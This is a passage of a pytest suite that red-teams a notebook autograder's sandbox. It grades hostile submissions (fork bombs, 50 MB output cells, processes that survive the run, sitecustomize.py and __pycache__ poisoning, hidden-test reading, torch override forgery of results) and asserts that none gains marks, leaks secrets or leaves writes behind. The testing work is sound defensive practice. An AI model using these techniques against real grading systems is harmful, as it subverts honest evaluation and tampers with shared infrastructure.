    else:  # big_file: a cell with 50 MB of "printed output", as a notebook saved without clearing it
        cell = _code_cell("print('x' * 50_000_000)")
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}]
        nb["cells"].insert(at, cell)
    return nb


# --- watching the world --------------------------------------------------------------------------

def _hash(path: Path) -> str | None:
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except OSError:
        return None


def _tree(folder: Path) -> dict[str, tuple]:
    """Every file under ``folder``: its hash and mode (a chmod counts as a change)."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_file() or p.is_symlink():
            try:
                mode = p.lstat().st_mode
            except OSError:
                mode = None
            out[str(p)] = (_hash(p), mode)
    return out


def _package_files() -> dict[str, str | None]:
    """The installed grader and checks (sources), as the sandbox's read-only view shows them."""
    return {str(p): _hash(p) for p in sorted(PACKAGE.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def _names(folder: Path) -> set[str]:
    try:
        return set(os.listdir(folder))
    except OSError:
        return set()


def _watched_folders() -> list[Path]:
    """Folders outside the test's own tmp tree where an escaped write would land."""
    return [Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path.home(), Path("/work"), SITE,
            GRADING, GRADING / "checks", GRADING / "__pycache__", PACKAGE]


def _marked_processes() -> list[tuple[int, str]]:
    """Live processes a submission started: by name, command line or the unusual sleep argument."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            comm = Path(f"/proc/{entry}/comm").read_text().strip()
            cmd = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if state in ("Z", "X"):  # dead, waiting to be reaped: nothing runs
            continue
        if comm == MARK or MARK in cmd or SLEEP in cmd:
            found.append((int(entry), f"{comm}: {cmd[:120]}"))
    return found


def _leak_forms(text: str) -> list[str]:
    """A secret as an attack would print it past a line filter: raw, reversed, in hex."""
    return [text, text[::-1], text.encode().hex()]


def _clean_up(before_package: dict[str, bytes]) -> None:
    """Remove whatever an attack managed to leave (tagged files; tagged lines appended to the
    package; processes), so a failed run does not poison the working tree or the next run."""
    for pid, _ in _marked_processes():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for folder in _watched_folders():
        for name in _names(folder):
            if MARK in name:
                try:
                    (folder / name).unlink()
                except OSError:
                    pass
    for path, old in before_package.items():
        try:
            new = Path(path).read_bytes()
        except OSError:
            continue
        if new != old and new.startswith(old) and MARK.encode() in new[len(old):]:
            Path(path).write_bytes(old)
    for pyc in (GRADING / "__pycache__").glob("*.pyc"):  # Python compiles them again
        try:
            if MARK.encode() in pyc.read_bytes():
                pyc.unlink()
        except OSError:
            pass
    custom = SITE / "sitecustomize.py"
    if custom.exists() and MARK in custom.read_text(errors="replace"):
        lines = [ln for ln in custom.read_text().splitlines(True) if MARK not in ln]
        if any(ln.strip() for ln in lines):
            custom.write_text("".join(lines))
        else:
            custom.unlink()


# --- the batch -----------------------------------------------------------------------------------

@dataclasses.dataclass
class Batch:
    subs: dict                      # name -> Submission
    seconds: float
    written: dict                   # output path -> bytes the grader wrote last
    outputs_after: dict             # output path -> bytes SETTLE seconds later
    tree_before: dict
    tree_after: dict
    package_before: dict
    package_after: dict
    names_before: dict              # watched folder -> names
    names_after: dict
    survivors: list
    paths: dict
    tagged: dict                    # attack name -> files outside the sandbox holding its tag (changed or new)


_TAG = re.compile(re.escape(MARK).encode() + rb"-([a-z0-9_]+)")


def _tags_in(path: Path) -> set[str]:
    try:
        return {m.decode() for m in _TAG.findall(path.read_bytes())}
    except OSError:
        return set()


def _tagged(tree_before, tree_after, package_before, package_after, names_before, names_after) -> dict:
    """Which attack's tag is in which file that changed or appeared (the outputs aside: they
    rightly quote what attacks printed), in the package's ``__pycache__``, or in a name planted
    in a watched folder."""
    found: dict[str, list[str]] = {}
    suspects = [Path(p) for p in tree_after if tree_after[p] != tree_before.get(p)]
    suspects += [Path(p) for p in package_after if package_after[p] != package_before.get(p)]
    suspects += [p for p in (GRADING / "__pycache__").glob("*") if p.is_file()]
    for path in suspects:
        if path.name in ("results.json", "grades.csv"):
            continue
        for tag in _tags_in(path):
            found.setdefault(tag, []).append(str(path))
    for folder, names in names_after.items():
        for name in names - names_before[folder]:
            m = _TAG.search(name.encode())
            if m:
                found.setdefault(m.group(1).decode(), []).append(os.path.join(folder, name))
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """All attacks, the solution and the exercise in one ``grader.grade(..., jobs=2)`` run with
    a hidden-tests folder, outputs written as the CLI writes them (after every notebook)."""
    root = tmp_path_factory.mktemp("redteam")
    subs_dir, hidden, out = root / "submissions", root / "hidden", root / "out"
    for folder in (subs_dir, hidden, out):
        folder.mkdir()
    # Hidden tests: the public tests (13 points, so the solution's marks are comparable) and a secret.
    (hidden / "ch00.py").write_text(
        "from tlcourse.grading.checks.ch00 import *  # QUESTIONS and the public tests\n\n"
        f"ANSWER_KEY = {SECRET!r}  # must never reach a learner\n", encoding="utf-8")
    (hidden / "answer_key.txt").write_text(f"the key: {SECRET}\n", encoding="utf-8")
    paths = {"hidden": hidden, "json": out / "results.json", "csv": out / "grades.csv",
             "solution": subs_dir / "00_solution.ipynb", "exercise": subs_dir / "00_exercise.ipynb"}
    exercise = _notebook(EXERCISE)
    for name, nb in (("solution", _notebook(SOLUTION)), ("exercise", exercise)):
        paths[name].write_text(json.dumps(_with_private_text(nb, PRIVATE[name])), encoding="utf-8")
    order = {"solution": paths["solution"], "exercise": paths["exercise"]}
    for attack in ATTACKS:
        path = subs_dir / f"00_{attack.name}.ipynb"
        path.write_text(json.dumps(_attack_notebook(attack, exercise, paths)), encoding="utf-8")
        order[attack.name] = path
    # The solution again, last: graded after the kills and bombs, in a sandbox they may have restarted.
    order["solution_late"] = subs_dir / "00_solution_late.ipynb"
    order["solution_late"].write_bytes(paths["solution"].read_bytes())

    package_bytes = {str(p): p.read_bytes() for p in sorted(PACKAGE.rglob("*.py"))}
    tree_before = _tree(root)
    package_before = _package_files()
    names_before = {str(f): _names(f) for f in _watched_folders()}
    input_paths = list(order.values())
    graded: list = [None] * len(input_paths)
    lock = threading.Lock()

    def progress(sub):  # as `tlcourse grade --json --csv` does: rewrite both after every notebook
        with lock:
            graded[input_paths.index(Path(sub.path))] = sub
            done = [s for s in graded if s is not None]
            grader.write_json(done, paths["json"], pending=[str(p) for p, s in zip(input_paths, graded) if s is None])
            grader.write_csv(done, paths["csv"])

    try:
        started = time.monotonic()
        results = grader.grade(input_paths, tests_dir=hidden, timeout=TIMEOUT, total_timeout=TOTAL_TIMEOUT,
                               jobs=2, progress=progress)
        seconds = time.monotonic() - started
        with lock:
            grader.write_json(results, paths["json"])
            grader.write_csv(results, paths["csv"])
            written = {p: Path(p).read_bytes() for p in (paths["json"], paths["csv"])}
        time.sleep(SETTLE)
        outputs_after = {p: Path(p).read_bytes() if Path(p).exists() else None for p in written}
        survivors = _marked_processes()
        subs = dict(zip(order, results))
        print(f"\n{len(results)} notebooks ({len(ATTACKS)} attacks) graded at the {LEVEL} level "
              f"in {seconds:.1f} s (jobs=2)")
        print(grader.table(results))
        tree_after, package_after = _tree(root), _package_files()
        names_after = {str(f): _names(f) for f in _watched_folders()}
        yield Batch(subs=subs, seconds=seconds, written=written, outputs_after=outputs_after,
                    tree_before=tree_before, tree_after=tree_after, package_before=package_before,
                    package_after=package_after, names_before=names_before, names_after=names_after,
                    survivors=survivors, paths=paths,
                    tagged=_tagged(tree_before, tree_after, package_before, package_after, names_before, names_after))
    finally:
        _clean_up(package_bytes)


# --- helpers for the assertions ------------------------------------------------------------------

def _scores(sub) -> dict:
    return {q.id: q.score for q in sub.questions}


def _report_text(sub) -> str:
    """Everything a report says about ``sub``: its record, feedback, table row and JSON entry."""
    return "\n".join([json.dumps(dataclasses.asdict(sub), ensure_ascii=False), grader.details(sub),
                      grader.table([sub]), json.dumps(grader.gradescope(sub), ensure_ascii=False)])


def _plain(text: str) -> bool:
    return bool(text.strip()) and "Traceback (most recent call last)" not in text and "grade it again" not in text


# --- the honest submissions, the outputs, the package, the time --------------------------------

@pytest.mark.parametrize("copy_", ["solution", "solution_late"])
def test_solution_keeps_full_marks(batch, copy_):
    """The solution keeps 13/13, graded first and again last (after the kills and bombs, in a
    sandbox they may have restarted), in the same batch as every attack."""
    solution = batch.subs[copy_]
    assert _scores(solution) == {"q1": 3, "q2": 3, "q3": 3, "q4": 4}, grader.details(solution)
    assert solution.score == solution.max_score == 13 and not solution.error, grader.details(solution)
    assert not solution.review, solution.review


def test_exercise_keeps_zero_and_every_notebook_names_its_isolation(batch):
    """The honest empty exercise scores 0/13 with its usual kind messages; every graded
    notebook says which isolation level graded it."""
    exercise = batch.subs["exercise"]
    assert _scores(exercise) == {"q1": 0, "q2": 0, "q3": 0, "q4": 0} and exercise.max_score == 13
    assert not exercise.error and not exercise.review, grader.details(exercise)
    for q in exercise.questions:
        assert all(t.message.startswith("not answered yet") for t in q.tests), grader.details(exercise)
    for sub in batch.subs.values():
        assert sub.error or sub.isolation == LEVEL, (sub.path, sub.isolation)


def test_batch_finishes_in_bounded_time(batch):
    """The whole batch (two checkers on this machine's cores), bombs and restarts included."""
    assert batch.seconds < BATCH_BUDGET, f"{len(batch.subs)} notebooks took {batch.seconds:.1f} s"
    slow = {name: round(s.seconds, 1) for name, s in batch.subs.items() if s.seconds > TOTAL_TIMEOUT}
    assert not slow, slow


def test_output_files_are_what_the_grader_wrote(batch):
    """``results.json`` and the CSV hold the grader's results, byte for byte, SETTLE seconds
    after grading (a surviving process would have rewritten them by then); the JSON is one
    Gradescope object whose score is the sum of the notebooks' scores."""
    for path, data in batch.written.items():
        after = batch.outputs_after[path]
        who = sorted({m.decode() for m in _TAG.findall(after or b"")} - {m.decode() for m in _TAG.findall(data)})
        assert after == data, f"{path} changed after the grader wrote it (tags of: {who})"
    data = json.loads(batch.written[batch.paths["json"]])
    assert data["score"] == pytest.approx(sum(s.score for s in batch.subs.values())) == 26
    records = data["extra_data"]["notebooks"]
    assert [r["score"] for r in records] == [s.score for s in batch.subs.values()]
    assert [r["file"] for r in records] == [s.path for s in batch.subs.values()]
    import csv
    import io
    rows = list(csv.DictReader(io.StringIO(batch.written[batch.paths["csv"]].decode())))
    assert [float(r["score"]) for r in rows] == [s.score for s in batch.subs.values()]


def test_submissions_hidden_tests_and_outputs_folder_unchanged(batch):
    """Every file of the test's tree (submissions, hidden tests) has the same bytes, and the
    only new files are the two outputs (no temporary file left by their atomic writes)."""
    new = set(batch.tree_after) - set(batch.tree_before)
    assert new == {str(batch.paths["json"]), str(batch.paths["csv"])}, sorted(new)
    gone = set(batch.tree_before) - set(batch.tree_after)
    assert not gone, sorted(gone)
    changed = [p for p in batch.tree_before if batch.tree_after.get(p) != batch.tree_before[p]]
    assert not changed, changed


def test_installed_package_unchanged(batch):
    """The installed tlcourse (grader, checker, worker, checks, ...) keeps its files (hashed before
    and after: none deleted, renamed or emptied, none holding a submission's tag); no submission
    planted a file in it, in its ``__pycache__`` or in site-packages, nor appended to a compiled
    module. Every write an attack makes carries its tag, so a change without one is not an
    attack's: this package is the shared working tree, which people edit while tests run, so
    such a change is a warning, not a failure."""
    changed = [p for p in batch.package_before if batch.package_after.get(p) != batch.package_before[p]]
    gone = [p for p in changed if batch.package_after.get(p) is None or Path(p).stat().st_size == 0]
    assert not gone, f"package files deleted, renamed or emptied: {gone}"
    tagged = sorted({p for paths in batch.tagged.values() for p in paths if p in batch.package_before})
    assert not tagged, f"package files a submission wrote to: {tagged}"
    if changed:  # same bytes expected; an untagged change is a person editing the working tree meanwhile
        warnings.warn(f"package files changed during the batch without any mark of a submission (edited by "
                      f"someone else meanwhile?): {changed}")
    planted = sorted(p for p in set(batch.package_after) - set(batch.package_before) if MARK in Path(p).name)
    assert not planted, planted
    poisoned = [p for paths in batch.tagged.values() for p in paths if "__pycache__" in p]
    assert not poisoned, poisoned
    for folder in (SITE, GRADING, GRADING / "checks", GRADING / "__pycache__", PACKAGE):
        planted = sorted(n for n in batch.names_after[str(folder)] - batch.names_before[str(folder)] if MARK in n)
        assert not planted, (str(folder), planted)
    custom = SITE / "sitecustomize.py"
    assert not custom.exists() or MARK not in custom.read_text(errors="replace")


def test_no_process_outlives_the_batch(batch):
    """Nothing a submission started (the daemon, the Popen'ed loop and sleeps, the fork bomb's
    children) is alive SETTLE seconds after grading."""
    if not STRONG:
        pytest.skip(WEAK_REASON + " (the process level documents that a process in a new session of "
                    "its own outlives its question)")
    assert not batch.survivors, batch.survivors


def test_nothing_lands_in_host_folders(batch):
    """No file of any attack in the host's /tmp, /var/tmp, /dev/shm, $HOME or /work."""
    if not STRONG:
        pytest.skip(WEAK_REASON + " (the process level's worker may write where uid 65534 may)")
    planted = {f: sorted(n for n in batch.names_after[f] - batch.names_before[f] if MARK in n)
               for f in batch.names_after}
    assert not any(planted.values()), planted


# --- each attack ---------------------------------------------------------------------------------

@pytest.mark.parametrize("name", list(BY_NAME))
def test_attack_gains_nothing(batch, name):
    """Scores exactly what the honest empty exercise scores, question by question."""
    attack, sub = BY_NAME[name], batch.subs[name]
    assert _scores(sub) == _scores(batch.subs["exercise"]), attack.doc + "\n" + grader.details(sub)
    assert sub.score == 0 and sub.max_score == 13, grader.details(sub)
    if attack.error == "must":
        assert sub.error, grader.details(sub)
    elif attack.error == "none":
        assert sub.error is None, grader.details(sub)


@pytest.mark.parametrize("name", list(BY_NAME))
def test_attack_is_reported_plainly(batch, name):
    """Every test of the attacked question failed with a plain message (or the notebook was
    refused with a plain error, or a REVIEW note names the question); when the attack left
    output, it shows it ran."""
    attack, sub = BY_NAME[name], batch.subs[name]
    if sub.error:
        assert attack.error != "none", grader.details(sub)
        assert _plain(sub.error), sub.error
        assert all(not t.passed and t.message for q in sub.questions for t in q.tests), grader.details(sub)
        assert sub.seconds < 5, f"refusing {name} took {sub.seconds:.1f} s"
    if attack.error == "must":
        assert "MB" in sub.error and f"{extract.MAX_NOTEBOOK_BYTES // 2**20} MB" in sub.error, sub.error
    if sub.error:
        return
    questions = [q for q in sub.questions if attack.question in (None, q.id)]
    for q in questions:
        notes = [r for r in sub.review if r.startswith(f"{q.id}:")]
        reported = all(not t.passed and _plain(t.message) for t in q.tests) or notes
        assert reported, grader.details(sub)
        for text in [t.message for t in q.tests] + notes:
            assert "Traceback (most recent call last)" not in text and "grade it again" not in text, text
    for text in (attack.ran, attack.shows):
        if text:
            q = questions[0]
            assert text in q.output + q.hidden_output, (q.output, grader.details(sub))
    assert sub.seconds < TOTAL_TIMEOUT, f"{name} took {sub.seconds:.1f} s"


@pytest.mark.parametrize("name", [a.name for a in ATTACKS if a.never])
def test_attack_finds_no_way_through(batch, name):
    """An attack that says so when it got through (it found what an earlier job left behind)
    never says so."""
    if not STRONG:
        pytest.skip(WEAK_REASON + " (the process level shares the host's /tmp between jobs)")
    attack, sub = BY_NAME[name], batch.subs[name]
    said = [f"{q.id}: {line}" for q in sub.questions for line in (q.output + q.hidden_output).splitlines()
            if attack.never in line]
    assert not said, "\n".join(said)


@pytest.mark.parametrize("name", list(BY_NAME))
def test_attack_leaks_nothing(batch, name):
    """Neither the hidden tests' secret nor another submission's private text appears, raw,
    reversed or in hex, anywhere in this submission's record, feedback, table row or
    Gradescope entry, nor in the results files."""
    if name == "reads_tests_and_submissions" and not STRONG:
        pytest.skip(WEAK_REASON + " (reading files)")
    text = _report_text(batch.subs[name])
    for secret in [SECRET, *PRIVATE.values()]:
        for form in _leak_forms(secret):
            assert form not in text, f"{name} leaked {secret!r} as {form!r}"
    if name == "reads_tests_and_submissions":
        outputs = b"".join(batch.written.values()).decode()
        for secret in [SECRET, *PRIVATE.values()]:
            for form in _leak_forms(secret):
                assert form not in outputs, f"the results files hold {form!r}"
        # The secret's own words are absent too: the hidden test file never existed for the worker.
        assert "ANSWER_KEY = " not in text


@pytest.mark.parametrize("name", list(BY_NAME))
def test_attack_writes_nothing_outside(batch, name):
    """No file outside the sandbox carries this attack's tag: not the outputs, the submissions,
    the hidden tests, the package, its ``__pycache__``, site-packages or (bubblewrap) the host's
    /tmp and $HOME."""
    hits = list(batch.tagged.get(name, []))
    if not STRONG:  # the process level's worker may write where uid 65534 may (/tmp): not counted there
        hits = [h for h in hits if not h.startswith(tuple(str(f) for f in _watched_folders()[:5]))]
    assert not hits, f"{name} wrote to {hits}"


# --- the attacks are real: in one process they would have worked ----------------------------------

DEMO = r'''
import json, sys
from tlcourse.grading import runtime
from tlcourse.grading.checks import ch00
questions, tests = runtime.collect(vars(ch00))
ns = {"__name__": "__main__"}
exec(compile(sys.argv[1], "<cell>", "exec"), ns)
print(json.dumps([runtime.run_test(t, ns)[0] for t in tests if t.question == "q3"]))
'''


@pytest.mark.parametrize("name", ["torch_function_mode", "aten_library_impl"])
def test_overrides_would_forge_in_one_process(name, tmp_path):
    """Run the attack's cell and then q3's public tests in ONE fresh process (what the grader
    must never do): the wrong answer passes every test. The same cell scores 0 in the batch."""
    attack = BY_NAME[name]
    paths = {"hidden": tmp_path, "json": tmp_path / "r.json", "csv": tmp_path / "g.csv",
             "solution": tmp_path / "s.ipynb", "exercise": tmp_path / "e.ipynb"}
    source = f"T = {_targets(attack, paths)!r}\n" + attack.source
    proc = subprocess.run([sys.executable, "-c", DEMO, source], capture_output=True, text=True, timeout=300,
                          cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert json.loads(proc.stdout.strip().splitlines()[-1]) == [True, True, True], proc.stdout
